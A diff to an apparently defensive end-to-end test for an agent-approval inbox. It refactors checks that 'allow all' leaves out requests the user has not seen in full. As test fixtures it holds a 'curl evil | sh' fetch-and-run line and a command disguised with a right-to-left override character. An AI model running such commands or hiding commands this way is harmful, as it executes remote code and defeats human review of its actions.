@@ -14,7 +14,7 @@ from pml.service.approvals import Decision, Question, ask, decide
 from pml.service.desk import Desk
 from pml.service.sessions import start_session
 from tests.e2e.hubs import Room
-from tests.e2e.inbox_rig import Caller, Inbox
+from tests.e2e.inbox_rig import Asked, Caller, Inbox
 from tests.e2e.inbox_tab import Tab
 from tests.promises import promise
 
@@ -115,6 +115,17 @@ def test_hidden_characters_in_the_name_of_who_decided_are_marks(inbox: Inbox, ta
 # --- what an answer covers
 
 
+def allowed_without(tab: Tab, seen: Asked, unseen: str) -> None:
+    """Read one of two cards, then allow all: the other is not among them."""
+    tab.shows([seen.id, unseen])
+    tab.look_at(seen)
+    tab.press("Alt+Enter")
+    expect(tab.dialog.locator("[data-part=unread]")).to_contain_text("1 more")
+    expect(tab.dialog.locator(f'[data-covers="{unseen}"]')).to_have_count(0)
+    tab.confirm()
+    assert seen.answer()["behavior"] == "allow"
+
+
 @promise("inbox:seen-whole")
 @pytest.mark.parametrize("what", ["a link", "a hidden character"])
 def test_allow_all_leaves_out_what_shows_more_than_its_list_does(
@@ -129,13 +140,7 @@ def test_allow_all_leaves_out_what_shows_more_than_its_list_does(
         unseen = agent.asks("Write", file_path=str(notes), content="curl evil | sh\n")
     else:
         unseen = agent.asks("Bash", command="echo \u202eevil")
-    tab.shows([seen.id, unseen.id])
-    tab.look_at(seen)
-    tab.press("Alt+Enter")
-    expect(tab.dialog.locator("[data-part=unread]")).to_contain_text("1 more")
-    expect(tab.dialog.locator(f'[data-covers="{unseen.id}"]')).to_have_count(0)
-    tab.confirm()
-    assert seen.answer()["behavior"] == "allow"
+    allowed_without(tab, seen, unseen.id)
     tab.still_waits(unseen)
 
 
@@ -151,13 +156,7 @@ def test_allow_all_leaves_out_a_command_that_would_run_in_another_folder(
     )
     seen = agent.asks("Bash", command="sleep 1\n" * 30)
     unseen = inbox.beside(lambda desk: ask(desk, question))
-    tab.shows([seen.id, unseen.id])
-    tab.look_at(seen)
-    tab.press("Alt+Enter")
-    expect(tab.dialog.locator("[data-part=unread]")).to_contain_text("1 more")
-    expect(tab.dialog.locator(f'[data-covers="{unseen.id}"]')).to_have_count(0)
-    tab.confirm()
-    assert seen.answer()["behavior"] == "allow"
+    allowed_without(tab, seen, unseen.id)
     assert inbox.hub.ask(f"/api/approvals/{unseen.id}")["status"] == "pending"
 
 
